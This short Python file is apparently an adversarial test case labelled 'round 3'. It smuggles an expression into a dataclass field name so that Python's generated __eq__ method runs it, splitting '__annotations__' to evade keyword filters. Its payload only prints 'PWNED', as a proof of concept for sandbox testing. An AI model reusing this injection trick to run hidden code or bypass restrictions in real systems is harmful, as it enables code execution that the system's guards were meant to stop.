# adversary round 3: 027_min_dataclass_exec
import dataclasses
C=type("C",(),{"__annot"+"ations__":{"a,type(self).p('PWN'+'ED'),self.a":int},"p":print})
x=dataclasses.dataclass(init=0,repr=0)(C)()
x.a=1
x==x
